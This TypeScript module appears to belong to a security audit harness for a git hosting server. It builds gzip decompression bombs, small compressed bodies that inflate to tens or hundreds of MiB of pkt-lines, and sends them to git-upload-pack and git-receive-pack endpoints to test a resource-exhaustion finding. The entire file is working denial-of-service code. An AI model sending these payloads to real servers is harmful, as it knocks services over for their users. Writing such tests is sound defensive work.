// Finding 1: a small gzip body that inflates to millions of pkt-lines.
import { gzipSync } from 'node:zlib';
import { basic } from '../api.js';
import { once, type Attack, type AttackContext, type StrikeLimits } from '../attack.js';
import { repoWithFiles } from '../git-push.js';
import { describeError, request, shortBody } from '../http.js';
import { FLUSH, pkt, ZERO_ID } from '../../../../packages/test-support/src/wire.js';

const MIB = 1 << 20;
/** The upload-pack request limit of the old code (GITFLEET_MAX_REQUEST_BYTES): as much as it let in. */
const UPLOAD_INFLATED_BYTES = 64 * MIB;
/**
 * receive-pack let in its pack limit on top: 256 MiB of empty push options is still ~260 KiB
 * gzipped; command lines (~100 bytes each, which deflate less well) stay at the upload-pack size.
 */
const RECEIVE_INFLATED_BYTES = { commands: 64 * MIB, 'push-options': 256 * MIB };
const EMPTY_PACKET = Buffer.from('0004');

/** `bytes` of one packet repeated, gzipped: level 9 deflate shrinks such a run about a thousandfold. */
function gzippedRepeat(prefix: Buffer, packet: Buffer, bytes: number): Buffer {
  const block = Buffer.alloc(Math.floor(MIB / packet.length) * packet.length, packet);
  const blocks: Buffer[] = [prefix];
  for (let total = 0; total + block.length <= bytes; total += block.length) blocks.push(block);
  return gzipSync(Buffer.concat(blocks), { level: 9 });
}

const uploadBody = once(async () => gzippedRepeat(Buffer.alloc(0), EMPTY_PACKET, UPLOAD_INFLATED_BYTES));

/** A public repository with one commit, owned by the victim: anyone may fetch it. */
const publicRepo = once(async (ctx) => {
  const { victim } = await ctx.accounts();
  const name = ctx.unique('public');
  await ctx.api.createRepo(victim, name);
  const dir = await ctx.scratch('public');
  await repoWithFiles(ctx.git, dir, { 'README.md': '# public\n' });
  await ctx.git.git(['push', '--quiet', ctx.api.gitUrl(victim, victim.name, name), 'main'], { cwd: dir });
  return { owner: victim.name, name };
});

async function postUploadPack(
  ctx: AttackContext,
  repo: { owner: string; name: string },
  body: Buffer,
  version: 0 | 2,
  limits: StrikeLimits,
): Promise<string> {
  try {
    const answer = await request(`${ctx.target.base()}/${repo.owner}/${repo.name}.git/git-upload-pack`, {
      method: 'POST',
      headers: {
        'content-type': 'application/x-git-upload-pack-request',
        'content-encoding': 'gzip',
        ...(version === 2 ? { 'git-protocol': 'version=2' } : {}),
      },
      body,
      timeoutMs: limits.remainingMs(),
      signal: limits.signal,
    });
    return `${answer.status} ${shortBody(answer.body, 60)}`;
  } catch (error) {
    return describeError(error);
  }
}

function uploadBomb(name: string, version: 0 | 2, parallel: number): Attack {
  return {
    name,
    finding: '1',
    async prepare(ctx) {
      const [repo, body] = await Promise.all([publicRepo(ctx), uploadBody(ctx)]);
      return async (limits) => {
        const answers = await Promise.all(Array.from({ length: parallel }, () => postUploadPack(ctx, repo, body, version, limits)));
        return `${(body.length / 1024).toFixed(0)} KiB gz → ${UPLOAD_INFLATED_BYTES / MIB} MiB: ${answers.join(' | ')}`;
      };
    },
  };
}

/**
 * A push request whose command list (many "create" lines) or push options (empty packets)
 * never ends, as one signed-up account may send to its own repository.
 */
function receiveBomb(name: string, shape: 'commands' | 'push-options'): Attack {
  return {
    name,
    finding: '1',
    async prepare(ctx) {
      const { attacker } = await ctx.accounts();
      const repo = ctx.unique('own');
      await ctx.api.createRepo(attacker, repo);
      const command = (ref: string, capabilities: string) => pkt(`${ZERO_ID} ${'1'.repeat(40)} ${ref}${capabilities}\n`);
      const first = command('refs/heads/first', '\0report-status push-options');
      const body =
        shape === 'commands'
          ? gzippedRepeat(first, command('refs/heads/x', ''), RECEIVE_INFLATED_BYTES[shape])
          : gzippedRepeat(Buffer.concat([first, FLUSH]), EMPTY_PACKET, RECEIVE_INFLATED_BYTES[shape]);
      return async (limits) => {
        try {
          const answer = await request(`${ctx.target.base()}/${attacker.name}/${repo}.git/git-receive-pack`, {
            method: 'POST',
            headers: {
              ...basic(attacker.name, attacker.token),
              'content-type': 'application/x-git-receive-pack-request',
              'content-encoding': 'gzip',
            },
            body,
            timeoutMs: limits.remainingMs(),
            signal: limits.signal,
          });
          return `${(body.length / 1024).toFixed(0)} KiB gz → ${RECEIVE_INFLATED_BYTES[shape] / MIB} MiB: ${answer.status} ${shortBody(answer.body, 60)}`;
        } catch (error) {
          return describeError(error);
        }
      };
    },
  };
}

export const pktLineBombAttacks: Attack[] = [
  uploadBomb('pkt-bomb-upload-v2', 2, 1),
  uploadBomb('pkt-bomb-upload-v0', 0, 1),
  uploadBomb('pkt-bomb-upload-v2-x2', 2, 2),
  receiveBomb('pkt-bomb-receive-commands', 'commands'),
  receiveBomb('pkt-bomb-receive-options', 'push-options'),
];
